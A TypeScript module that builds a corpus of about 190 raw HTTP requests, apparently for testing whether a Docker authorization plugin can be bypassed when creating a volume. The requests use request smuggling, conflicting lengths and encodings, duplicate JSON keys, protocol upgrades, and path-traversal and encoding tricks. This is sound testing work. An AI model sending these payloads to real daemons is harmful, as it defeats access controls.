/** A request that tries to create a volume past an authorization plugin. */
export interface Attempt {
  readonly what: string;
  readonly bytes: string;
  /** Our side of the connection ends after the bytes. */
  readonly endsEarly?: boolean;
}

const json = 'Content-Type: application/json';
const tcp = ['Connection: Upgrade', 'Upgrade: tcp'];

const chunked = (text: string, size = text.length, extension = '') => {
  const parts = text.match(new RegExp(`.{1,${size}}`, 'gs')) ?? [];
  return `${parts.map((part) => `${part.length.toString(16)}${extension}\r\n${part}\r\n`).join('')}0\r\n\r\n`;
};
const sized = (body: string, ...lines: string[]) => [...lines, `Content-Length: ${body.length}`];
const padded = (body: string, mebibytes: number) => body.replace('}', `${' '.repeat(mebibytes << 20)}}`);

/**
 * Ways to ask for a volume of this name so that what is shown and what is executed might differ.
 *
 * @param name  letters only, beginning with `s`
 */
export function bypassCorpus(name: string): Attempt[] {
  const wanted = `{"Name":"${name}"}`;
  const create = (lines: string[], body: string, path = '/volumes/create', version = 'HTTP/1.1', method = 'POST') =>
    `${[`${method} ${path} ${version}`, 'Host: x', ...lines].join('\r\n')}\r\n\r\n${body}`;
  const plain = create(sized(wanted, json), wanted);
  const withBody = (body: string, ...lines: string[]) => create(sized(body, json, ...lines), body);
  const ping = 'GET /_ping HTTP/1.1\r\nHost: x\r\n\r\n';
  const smuggled = (lines: string[], body = wanted) => create(lines, body);

  const lengths: [string, string, boolean?][] = [
    ['a plain request', plain],
    ['a body after length zero', smuggled([json, 'Content-Length: 0'])],
    ['a body without length', smuggled([json])],
    ['a body that is longer than its length', smuggled([json, 'Content-Length: 5'])],
    ['a body that ends early', smuggled([json, 'Content-Length: 900']), true],
    ['two lengths', smuggled([json, 'Content-Length: 0', `Content-Length: ${wanted.length}`])],
    ['two equal lengths', smuggled([json, `Content-Length: ${wanted.length}`, `Content-Length: ${wanted.length}`])],
    ['a list of lengths', smuggled([json, `Content-Length: ${wanted.length}, ${wanted.length}`])],
    ['a negative length', smuggled([json, 'Content-Length: -1'])],
    ['a length with a sign', smuggled([json, `Content-Length: +${wanted.length}`])],
    ['a length in hexadecimal', smuggled([json, `Content-Length: 0x${wanted.length.toString(16)}`])],
    ['a length with zeros before it', smuggled([json, `Content-Length: 000${wanted.length}`])],
    ['a length beyond 64 bits', smuggled([json, `Content-Length: 18446744073709551616`])],
    ['a length with a space before the colon', smuggled([json, `Content-Length : ${wanted.length}`])],
    ['a length with an underscore', smuggled([json, `Content_Length: ${wanted.length}`])],
    [
      'a length and chunks (CL.TE)',
      smuggled([json, 'Content-Length: 3', 'Transfer-Encoding: chunked'], chunked(wanted)),
    ],
    [
      'chunks and a length (TE.CL)',
      smuggled([json, 'Transfer-Encoding: chunked', 'Content-Length: 3'], chunked(wanted)),
    ],
    [
      'a second request within a length, behind the end of chunks',
      smuggled([json, 'Content-Length: 999', 'Transfer-Encoding: chunked'], `0\r\n\r\n${plain}`),
    ],
    ['an unknown encoding', smuggled([json, 'Transfer-Encoding: gzip, chunked'], chunked(wanted))],
    ['a disguised encoding', smuggled([json, 'Transfer-Encoding: xchunked'], chunked(wanted))],
    ['an encoding with a tab', smuggled([json, 'Transfer-Encoding:\tchunked'], chunked(wanted))],
    ['an encoding with a vertical tab', smuggled([json, 'Transfer-Encoding: \x0bchunked'], chunked(wanted))],
    ['an encoding in capitals', smuggled([json, 'Transfer-Encoding: CHUNKED'], chunked(wanted))],
    ['two encodings', smuggled([json, 'Transfer-Encoding: chunked', 'Transfer-Encoding: identity'], chunked(wanted))],
    ['the encoding identity', smuggled([json, 'Transfer-Encoding: identity', `Content-Length: ${wanted.length}`])],
    ['a length that Connection names', smuggled(sized(wanted, json, 'Connection: Content-Length'))],
    ['chunks', smuggled([json, 'Transfer-Encoding: chunked'], chunked(wanted))],
    ['chunks of one byte', smuggled([json, 'Transfer-Encoding: chunked'], chunked(wanted, 1))],
    ['chunks with extensions', smuggled([json, 'Transfer-Encoding: chunked'], chunked(wanted, 4, ';a="\\"b"'))],
    [
      'chunks with a bare line feed',
      smuggled([json, 'Transfer-Encoding: chunked'], chunked(wanted).replaceAll('\r\n', '\n')),
    ],
    ['chunks of a negative size', smuggled([json, 'Transfer-Encoding: chunked'], `-1\r\n${wanted}\r\n0\r\n\r\n`)],
    [
      'chunks of a size beyond 64 bits',
      smuggled([json, 'Transfer-Encoding: chunked'], `1${'0'.repeat(16)}\r\n${wanted}\r\n0\r\n\r\n`),
    ],
    ['chunks that never end', smuggled([json, 'Transfer-Encoding: chunked'], chunked(wanted).slice(0, -5)), true],
    [
      'chunks with trailers',
      smuggled([json, 'Transfer-Encoding: chunked'], `${chunked(wanted).slice(0, -2)}Content-Type: text/plain\r\n\r\n`),
    ],
    ['3 MiB', withBody(padded(wanted, 3))],
    ['5 MiB', withBody(padded(wanted, 5))],
    ['5 MiB in chunks', smuggled([json, 'Transfer-Encoding: chunked'], chunked(padded(wanted, 5), 65536))],
    ['5 MiB behind the key', withBody(`${wanted.slice(0, -1)}${' '.repeat(5 << 20)}}`)],
  ];

  const contents: [string, string, boolean?][] = [
    ['a type with parameters', create(sized(wanted, `${json}; charset=utf-8`), wanted)],
    ['a type with a broken parameter', create(sized(wanted, `${json}; =;`), wanted)],
    ['a type in capitals', create(sized(wanted, 'content-type: APPLICATION/JSON'), wanted)],
    ['a type with spaces', create(sized(wanted, 'Content-Type:   application/json  '), wanted)],
    ['another type', create(sized(wanted, 'Content-Type: text/plain'), wanted)],
    ['a type that ends in JSON', create(sized(wanted, 'Content-Type: application/vnd.api+json'), wanted)],
    ['no type', create(sized(wanted), wanted)],
    ['an empty type', create(sized(wanted, 'Content-Type:'), wanted)],
    ['two types', create(sized(wanted, 'Content-Type: text/plain', json), wanted)],
    ['two types the other way', create(sized(wanted, json, 'Content-Type: text/plain'), wanted)],
    ['a list of types', create(sized(wanted, 'Content-Type: text/plain, application/json'), wanted)],
    ['a content encoding', withBody(wanted, 'Content-Encoding: gzip')],
    ['a byte order mark', withBody(`\xef\xbb\xbf${wanted}`)],
    ['a key given twice', withBody(`{"Name":"fine","Name":"${name}"}`)],
    ['a key given twice the other way', withBody(`{"Name":"${name}","Name":"fine"}`)],
    ['a key in two cases', withBody(`{"Name":"${name}","name":"fine"}`)],
    ['a key in two cases the other way', withBody(`{"name":"fine","Name":"${name}"}`)],
    ['a key in another case', withBody(`{"nAmE":"${name}"}`)],
    ['an escaped key', withBody(`{"\\u004eame":"${name}"}`)],
    ['an escaped key beside the plain one', withBody(`{"Name":"fine","\\u004eame":"${name}"}`)],
    ['an escaped value', withBody(`{"Name":"\\u0073${name.slice(1)}"}`)],
    [
      'a value in pieces',
      withBody(`{"Name":"${name.slice(0, 2)}\\u00${name.charCodeAt(2).toString(16)}${name.slice(3)}"}`),
    ],
    ['two documents', withBody(`{}${wanted}`)],
    ['two documents on two lines', withBody(`${wanted}\n{}`)],
    ['a comment', withBody(`/* {} */${wanted}`)],
    ['a form', create(sized(`Name=${name}`, 'Content-Type: application/x-www-form-urlencoded'), `Name=${name}`)],
    ['a zero byte before it', withBody(`\0${wanted}`)],
    ['bytes that are no UTF-8', withBody(wanted.replace('}', ',"\xff\xfe":1}'))],
    ['deep nesting', withBody(`{"x":${'['.repeat(20000)}${']'.repeat(20000)},${wanted.slice(1)}`)],
  ];

  const protocols: [string, string, boolean?][] = [
    ['HTTP/1.0', create(sized(wanted, json), wanted, '/volumes/create', 'HTTP/1.0')],
    ['HTTP/1.0 without length', create([json], wanted, '/volumes/create', 'HTTP/1.0'), true],
    [
      'HTTP/1.0 with chunks',
      create([json, 'Transfer-Encoding: chunked'], chunked(wanted), '/volumes/create', 'HTTP/1.0'),
    ],
    [
      'HTTP/1.0 kept alive',
      create([json, 'Connection: keep-alive', 'Content-Length: 0'], plain, '/volumes/create', 'HTTP/1.0'),
    ],
    ['HTTP/0.9', `POST /volumes/create\r\n\r\n${wanted}`],
    ['HTTP/1.2', create(sized(wanted, json), wanted, '/volumes/create', 'HTTP/1.2')],
    ['HTTP/2.0 in words', create(sized(wanted, json), wanted, '/volumes/create', 'HTTP/2.0')],
    ['a request behind another', ping + plain],
    ['a request behind a refused one', plain + plain],
    ['a request behind a body of length zero', create([json, 'Content-Length: 0'], plain)],
    ['a request behind one that is none', `\r\n\r\n${plain}`],
    ['a request behind a HEAD', `HEAD /_ping HTTP/1.1\r\nHost: x\r\n\r\n${plain}`],
    ['a request behind a GET with a body', `GET /_ping HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\nhi${plain}`],
    [
      'a request behind a GET with a lying length',
      `GET /_ping HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n${plain}`,
    ],
    ['a request behind an unknown page', `GET /nowhere HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\n\r\nbody${plain}`],
    ['Upgrade', withBody(wanted, ...tcp)],
    ['Upgrade and chunks', smuggled([json, 'Transfer-Encoding: chunked', ...tcp], chunked(wanted))],
    [
      'Upgrade, a length and chunks',
      smuggled([json, 'Content-Length: 3', 'Transfer-Encoding: chunked', ...tcp], chunked(wanted)),
    ],
    ['Upgrade without a type', create(sized(wanted, ...tcp), wanted)],
    ['Upgrade without Connection', withBody(wanted, 'Upgrade: tcp')],
    ['Connection without Upgrade', withBody(wanted, 'Connection: Upgrade')],
    ['Upgrade, 5 MiB', withBody(padded(wanted, 5), ...tcp)],
    ['Upgrade, then a second request', create(['Content-Length: 0', ...tcp], plain)],
    [
      'Upgrade of a ping, then a second request',
      `GET /_ping HTTP/1.1\r\nHost: x\r\n${tcp.join('\r\n')}\r\n\r\n${plain}`,
    ],
    [
      'Upgrade to h2c',
      withBody(wanted, 'Connection: Upgrade, HTTP2-Settings', 'HTTP2-Settings: AAMAAABkAAQAAP__', 'Upgrade: h2c'),
    ],
    [
      'Upgrade to websocket',
      withBody(
        wanted,
        'Connection: Upgrade',
        'Upgrade: websocket',
        'Sec-WebSocket-Version: 13',
        'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==',
      ),
    ],
    [
      'a session, then a second request',
      `POST /session HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n${plain}`,
    ],
    [
      'gRPC, then a second request',
      `POST /grpc HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n${plain}`,
    ],
    ['the preface of HTTP/2', `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${plain}`],
    ['CONNECT', `CONNECT /volumes/create HTTP/1.1\r\nHost: x\r\n\r\n${plain}`],
    ['CONNECT to a host', `CONNECT x:80 HTTP/1.1\r\nHost: x:80\r\n\r\n${plain}`],
    ['TRACE', create(sized(wanted, json), wanted, '/volumes/create', 'HTTP/1.1', 'TRACE')],
    ['OPTIONS', create(sized(wanted, json), wanted, '/volumes/create', 'HTTP/1.1', 'OPTIONS')],
    ['PUT', create(sized(wanted, json), wanted, '/volumes/create', 'HTTP/1.1', 'PUT')],
    ['a method in small letters', create(sized(wanted, json), wanted, '/volumes/create', 'HTTP/1.1', 'post')],
    [
      'another method in a header',
      `GET /volumes HTTP/1.1\r\nHost: x\r\n${json}\r\nX-HTTP-Method-Override: POST\r\nContent-Length: ${wanted.length}\r\n\r\n${wanted}`,
    ],
    [
      'another path in a header',
      create(
        sized(wanted, json, 'X-Original-URL: /volumes/create', 'X-Rewrite-URL: /volumes/create'),
        wanted,
        '/_ping',
      ),
    ],
    ['Expect', withBody(wanted, 'Expect: 100-continue')],
    ['Expect of something else', withBody(wanted, 'Expect: 200-ok')],
    ['an obsolete line folding', create(sized(wanted, 'X: a\r\n Content-Length: 0', json), wanted)],
    [
      'an obsolete line folding of the type',
      create(sized(wanted, 'Content-Type: text/plain;\r\n application/json'), wanted),
    ],
    ['a bare line feed', plain.replaceAll('\r\n', '\n')],
    ['a bare carriage return', plain.replace('\r\n', '\r')],
    ['a zero byte in a header', create(sized(wanted, json, 'X: \0'), wanted)],
    ['a header without a colon', create(sized(wanted, json, 'X'), wanted)],
    ['a header without a name', create(sized(wanted, json, ': x'), wanted)],
    ['two hosts', withBody(wanted, 'Host: y')],
    ['no host', plain.replace('Host: x\r\n', '')],
    ['300 KiB of headers', withBody(wanted, `X: ${'x'.repeat(300 << 10)}`)],
    ['3,000 headers', withBody(wanted, ...Array.from({ length: 3000 }, (_, i) => `X-${i}: ${i}`))],
    [
      'a header that hides among 3,000',
      create([...Array.from({ length: 3000 }, (_, i) => `X-${i}: ${i}`), ...sized(wanted, json)], wanted),
    ],
  ];

  const paths: [string, string][] = [
    '/v1.51/volumes/create',
    '/v1.24/volumes/create',
    '/v9.99/volumes/create',
    '/v0/volumes/create',
    '/v1/volumes/create',
    '/v1.51.0/volumes/create',
    '/v.../volumes/create',
    '/v1.51/v1.51/volumes/create',
    '/v1.51/../volumes/create',
    '/V1.51/volumes/create',
    '/%761.51/volumes/create',
    '/v1.51/%76olumes/create',
    '/%2576olumes/create',
    '/volumes%2fcreate',
    '/volumes%2Fcreate',
    '/volumes%5ccreate',
    '/volumes\\create',
    '/VOLUMES/create',
    '//volumes/create',
    '///volumes/create',
    '/volumes//create',
    '/volumes/create/',
    '/volumes/create//',
    '/./volumes/create',
    '/volumes/./create',
    '/volumes/x/../create',
    '/volumes/create/.',
    '/volumes/create/x/..',
    '/%2e/volumes/create',
    '/auth/../volumes/create',
    '/auth%2f..%2fvolumes/create',
    '/auth/%2e%2e/volumes/create',
    '/v1.51/auth/../../volumes/create',
    '/_ping/../volumes/create',
    '/volumes/create?x=/auth',
    '/volumes/create?x=1&x=2&Name=fine',
    '/volumes/create?a;b',
    '/volumes/create?%zz',
    '/volumes/create??',
    '/volumes/create#/auth',
    '/volumes/create;/auth',
    '/volumes;x=1/create',
    '/volumes/create;',
    '/volumes/create/auth',
    '/volumes/create%20',
    '/volumes/create%0a',
    '/volumes/create%00',
    '/volumes/create%ff',
    '/volumes/create.',
    '/volumes/create%3fx',
    '/volumes/%c3%a9/../create',
    'http://x/volumes/create',
    'HTTP://x/volumes/create',
    'https://x/volumes/create',
    'http://x//volumes/create',
    'http://x/auth/../volumes/create',
    'http://auth/volumes/create',
    'http:///volumes/create',
    'http://x?/volumes/create',
    'ftp://x/volumes/create',
    'unix:///volumes/create',
    'volumes/create',
    '*',
    '/%zz/../volumes/create',
    '/\u00e9/../volumes/create',
  ].map((path) => [`the path ${path}`, create(sized(wanted, json), wanted, path)]);

  return [...lengths, ...contents, ...protocols, ...paths].map(([what, bytes, endsEarly = false]) => ({
    what,
    bytes,
    endsEarly,
  }));
}
